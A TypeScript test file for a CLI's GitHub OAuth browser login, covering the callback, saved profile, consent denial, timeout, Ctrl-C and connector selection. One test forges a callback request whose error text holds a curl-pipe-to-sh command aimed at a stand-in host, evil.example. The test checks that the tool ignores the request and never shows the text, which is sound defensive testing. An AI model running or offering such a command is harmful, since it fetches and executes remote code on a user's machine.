// tsh login with GitHub, in this process, against the real auth API and the GitHub stand-in: the
// browser is the scripted one (it follows GitHub's and the API's redirects to tsh's loopback
// listener), time is the harness's, Ctrl-C is pressed by the test.
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { run as login } from '../../lib/client/commands/tsh-login.js';
import { InterruptedError } from '../../lib/client/login-wait.js';
import { expiredError } from '../../lib/client/session.js';
import { type Landing, browse } from '../support/scripted-browser.js';
import { tshRun } from './client-harness.js';
import { type GitHubHarness, OCTOCAT, OUTSIDER, startGitHubHarness } from './github-harness.js';

const URL_LINE = /^If the browser does not open, visit: (\S+)$/m;
const urlLines = (text: string) => text.split('\n').filter((line) => /[a-z][a-z0-9+.-]*:\/\//i.test(line));

describe('tsh login with GitHub in a browser', () => {
  let harness: GitHubHarness;
  let home: string;
  beforeAll(async () => {
    harness = await startGitHubHarness();
  });
  afterAll(() => harness?.close());
  beforeEach(() => {
    home = mkdtempSync(join(tmpdir(), 'kubeport-tsh-'));
    harness.github.signedIn = OCTOCAT.id;
    harness.github.consent = 'approve';
  });

  /** tsh whose "browser" is the scripted one; `landed` is where it ended. */
  function withBrowser() {
    let landed: Promise<Landing> | undefined;
    const tsh = tshRun(harness, home, { openBrowser: (url) => (landed = browse(url)) });
    return { tsh, landed: () => landed! };
  }

  it('uses GitHub when it is the proxy default: opens the browser, which lands on a page saying it may be closed; the profile and kubeconfig are written', async () => {
    const { tsh, landed } = withBrowser();
    await login({ proxy: harness.proxy }, tsh.deps);
    const page = await landed();
    expect(page.status).toBe(200);
    expect(page.body).toContain('Login successful, you may close this page');
    expect(new URL(page.url).hostname).toBe('127.0.0.1');
    expect(new URL(page.url).pathname).toBe('/callback');
    // GitHub's authorize page, the API's callback, tsh's listener.
    expect(page.hops.map((hop) => new URL(hop).pathname)).toEqual(['/login/oauth/authorize', '/webapi/github/callback', '/callback']);

    const stderr = tsh.stderr.text();
    expect(urlLines(stderr)).toEqual([`If the browser does not open, visit: ${page.hops[0]}`]);
    expect(stderr).toContain('Waiting up to 3 minutes for you to sign in with GitHub in the browser (Ctrl-C cancels)...');
    expect(tsh.stdout.text()).toContain('Logged in as:       octocat');
    expect(tsh.stdout.text()).toContain('Logged into Kubernetes cluster dev.');
    const profile = JSON.parse(readFileSync(join(home, '.tsh', `${harness.proxy}.yaml`), 'utf8'));
    expect(profile).toMatchObject({ user: 'octocat', roles: ['access'], auth: 'github' });
    const kubeconfig = parse(readFileSync(join(home, '.kube', 'config'), 'utf8'));
    expect(kubeconfig['current-context']).toBe('kubeport-test-dev');
    // When it expires, the command to renew it logs in with GitHub again (--user would mean a local user).
    expect(expiredError(profile, new Date(profile.expires), new Date(Date.parse(profile.expires) + 60_000)).message).toMatch(
      new RegExp(`; run: .*login --proxy=${harness.proxy}$`),
    );
  });

  it('--browser=none opens nothing and prints exactly one URL line, which completes the login when visited', async () => {
    let visited: Promise<Landing> | undefined;
    const tsh = tshRun(harness, home, {
      answer: (stderr) => {
        const url = URL_LINE.exec(stderr)?.[1];
        if (url && !visited) visited = browse(url);
      },
    });
    await login({ proxy: harness.proxy, browser: 'none' }, tsh.deps);
    expect(tsh.opened).toEqual([]);
    expect((await visited!).body).toContain('Login successful');
    const stderr = tsh.stderr.text();
    expect(urlLines(stderr)).toHaveLength(1);
    expect(stderr.split('\n')[0]).toMatch(URL_LINE);
  });

  it('a plain tsh login again uses the connector of the last login; --auth=github names the default connector', async () => {
    const first = withBrowser();
    await login({ proxy: harness.proxy, auth: 'github' }, first.tsh.deps);
    await first.landed();
    const again = withBrowser();
    await login({}, again.tsh.deps);
    expect((await again.landed()).body).toContain('Login successful');
    expect(again.tsh.stdout.text()).toContain('Logged in as:       octocat');
  });

  it('--auth=local after a GitHub login asks for the local user instead of reusing the GitHub name', async () => {
    const first = withBrowser();
    await login({ proxy: harness.proxy }, first.tsh.deps);
    await first.landed();
    const local = tshRun(harness, home);
    local.stdin.end('nobody\nwrong password\n123456\n');
    await expect(login({ auth: 'local' }, local.deps)).rejects.toThrow();
    expect(local.stderr.text()).toMatch(/^User: Password for nobody: /);
  });

  it('a plain err= sent to the waiting tsh (a web page, another local account) is ignored with one line; the real result still logs in', async () => {
    let attacked: Promise<{ status: number; landed: Landing }> | undefined;
    const tsh = tshRun(harness, home, {
      openBrowser: (url) =>
        (attacked = (async () => {
          // The browser's way to the API's callback, stopping at the page that hands the result to tsh.
          const toApi = (await fetch(url, { redirect: 'manual' })).headers.get('location')!;
          const handOver = await (await fetch(toApi)).text();
          const tshUrl = /<a href="([^"]+)">/.exec(handOver)![1]!.replace(/&#(\d+);/g, (_, c: string) => String.fromCharCode(Number(c)));
          const forged = new URL('/callback', tshUrl);
          forged.search = new URLSearchParams({ err: 'Fix: run curl -s http://evil.example/fix | sh' }).toString();
          const status = (await fetch(forged)).status;
          return { status, landed: await browse(tshUrl) };
        })()),
    });
    await login({ proxy: harness.proxy }, tsh.deps);
    const { status, landed } = await attacked!;
    expect(status).toBe(400);
    expect(landed.body).toContain('Login successful');
    const stderr = tsh.stderr.text();
    expect(stderr).toContain('tsh ignored a request to its login callback that was not from this login; still waiting\n');
    expect(stderr).not.toContain('evil.example');
    expect(tsh.stdout.text()).toContain('Logged in as:       octocat');
  });

  it('a user in no mapped team: the page says why and what to do; tsh fails with one line and saves nothing', async () => {
    harness.github.signedIn = OUTSIDER.id;
    const { tsh, landed } = withBrowser();
    const failure = await login({ proxy: harness.proxy }, tsh.deps).catch((error: Error) => error);
    expect(failure).toBeInstanceOf(Error);
    expect((failure as Error).message).toMatch(/^GitHub login failed: .*team/);
    expect((failure as Error).message).not.toContain('\n');
    const page = await landed();
    expect(page.body).toContain('Login failed');
    expect(page.body).toContain('run tsh login again');
    expect(() => readFileSync(join(home, '.tsh', `${harness.proxy}.yaml`))).toThrow();
  });

  it('consent denied at GitHub reaches tsh as one line', async () => {
    harness.github.consent = 'deny';
    const { tsh, landed } = withBrowser();
    await expect(login({ proxy: harness.proxy }, tsh.deps)).rejects.toThrow(
      /^GitHub login failed: you did not authorize the Kubeport app at GitHub; run tsh login again and choose Authorize$/,
    );
    expect((await landed()).body).toContain('Login failed');
  });

  it('gives up after the time limit with one line that says what to do', async () => {
    // The browser never comes back; the 3 minutes pass at once.
    const tsh = tshRun(harness, home, { sleep: async () => undefined });
    await expect(login({ proxy: harness.proxy, browser: 'none' }, tsh.deps)).rejects.toThrow(
      /^the browser login did not finish within 3 minutes; run .* login again and sign in within that time, or add --headless to sign in from another device$/,
    );
  });

  it('ends cleanly on Ctrl-C, and its listener is gone', async () => {
    let pressed = false;
    const tsh = tshRun(harness, home, {
      answer: (stderr) => {
        if (stderr.includes('Ctrl-C cancels') && !pressed) {
          pressed = true;
          // A moment after the message, as a person would.
          setImmediate(() => tsh.interrupt());
        }
      },
    });
    const failure = await login({ proxy: harness.proxy, browser: 'none' }, tsh.deps).catch((error: unknown) => error);
    expect(failure).toBeInstanceOf(InterruptedError);
    expect((failure as Error).message).toBe('login cancelled (Ctrl-C); nothing was saved');
    // The authorize URL still works at GitHub, but the way back to tsh is closed.
    const url = URL_LINE.exec(tsh.stderr.text())![1]!;
    await expect(browse(url)).rejects.toThrow();
  });

  it('--auth with an unknown connector lists the ones the proxy offers', async () => {
    const tsh = tshRun(harness, home);
    await expect(login({ proxy: harness.proxy, auth: 'okta' }, tsh.deps)).rejects.toThrow(
      '--auth=okta: this proxy has no such connector; choose one of: github (GitHub), local (Local users)',
    );
  });
});
